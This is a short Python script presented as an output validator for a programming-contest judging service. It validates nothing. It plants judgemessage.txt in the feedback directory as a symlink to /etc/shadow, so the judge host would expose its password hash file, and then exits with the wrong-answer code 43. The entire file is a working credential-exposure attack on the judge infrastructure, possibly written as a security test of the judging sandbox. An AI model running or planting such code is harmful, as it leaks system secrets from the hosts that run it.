# An output validator that plants judgemessage.txt as a link to a secret of the service's host.
import os
import sys

os.symlink("/etc/shadow", os.path.join(sys.argv[3], "judgemessage.txt"))
sys.exit(43)
